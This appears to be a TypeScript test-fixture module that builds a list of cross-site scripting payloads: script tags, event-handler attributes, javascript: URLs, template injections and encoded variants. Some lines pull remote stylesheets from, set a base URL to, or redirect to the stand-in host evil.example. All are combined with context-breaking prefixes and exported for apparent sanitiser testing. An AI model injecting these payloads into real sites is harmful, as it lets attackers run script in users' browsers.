// Texts that would run as a script where a page took them for HTML, an attribute, an address or a template.
const run = 'hacked()';

const vectors = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<a href="javascript:${run}">click</a>`,
  `javascript:${run}`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `<iframe src=javascript:${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}>`,
  `<object data=javascript:${run}>`,
  `<embed src=javascript:${run}>`,
  `<form action=javascript:${run}><button autofocus>`,
  `<math><mtext><img src onerror=${run}>`,
  `<style>@import '//evil.example/a.css'</style>`,
  `<link rel=stylesheet href=//evil.example/a.css>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<template shadowrootmode=open><img src onerror=${run}>`,
  `{{constructor.constructor('${run}')()}}`,
  '${' + run + '}',
  `&lt;img src=x onerror=${run}&gt;`,
  `%3Cimg src=x onerror=${run}%3E`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
] as const;

/** What would end the place that a text stands in. */
const ends = ['', '">', `'>`, '</td>', '</script>', '--><', '</textarea>', '" onmouseover=hacked() x="'];

export const hostile: readonly string[] = ends.flatMap((end) => vectors.map((vector) => end + vector));
